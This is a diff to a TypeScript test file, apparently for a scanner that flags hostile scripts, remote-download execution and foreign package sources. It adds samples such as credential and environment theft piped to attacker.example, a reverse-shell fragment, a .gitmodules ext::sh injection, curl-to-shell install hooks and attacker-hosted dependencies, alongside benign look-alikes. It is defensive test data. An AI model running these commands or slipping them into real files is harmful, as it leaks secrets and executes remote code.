@@ -27,6 +27,23 @@ const ATTACKS: readonly (readonly [rule: string, name: string, text: string])[] 
     "x.ps1",
     'IEX (New-Object Net.WebClient).DownloadString("http://attacker.example")',
   ],
+  ["text/hostile-script", "x.sh", "env | curl -X POST -d @- http://attacker.example\n"],
+  ["text/hostile-script", "x.sh", "cat ~/.aws/credentials | nc attacker.example 4444\n"],
+  [
+    "text/hostile-script",
+    "x.sh",
+    'python3 -c "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"\n',
+  ],
+  ["text/hostile-script", ".gitmodules", '[submodule "x"]\n\turl = ext::sh -c x\n'],
+  ["text/runs-download", "x.sh", 'eval "$(curl -fsSL http://attacker.example/x)"\n'],
+  [
+    "text/runs-download",
+    "x.sh",
+    "wget http://attacker.example/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n",
+  ],
+  ["text/runs-download", "package.json", '{"postinstall": "curl http://attacker.example | sh"}'],
+  ["text/foreign-packages", "pyproject.toml", 'requires = ["x @ http://attacker.example/x.whl"]'],
+  ["text/foreign-packages", "setup.cfg", "requires = x @ git+http://attacker.example/x\n"],
   ["text/foreign-packages", "requirements.txt", "--extra-index-url http://attacker.example/s\nx"],
   ["text/foreign-packages", "requirements.txt", "-i https://attacker.example/simple\n"],
   ["text/foreign-packages", "requirements-dev.txt", "git+http://attacker.example/x.git#egg=x\n"],
@@ -67,6 +84,15 @@ const ORDINARY: readonly (readonly [name: string, text: string])[] = [
   [
     "Dockerfile",
     "FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY . /app\n",
+  ],
+  [
+    "setup.sh",
+    "curl -Lo kubectl https://dl.k8s.io/kubectl && chmod +x kubectl && mv kubectl /bin\n",
+  ],
+  ["package.json", '{"scripts": {"build": "tsc", "postinstall": "node x.js"}}'],
+  [
+    "pyproject.toml",
+    'homepage = "http://x.org"\ndependencies = ["x @ git+https://github.com/a/b"]\n',
   ],
   ["run.bat", "@echo off\nset PATH=%PATH%;C:\\x\npython app.py\n"],
   [
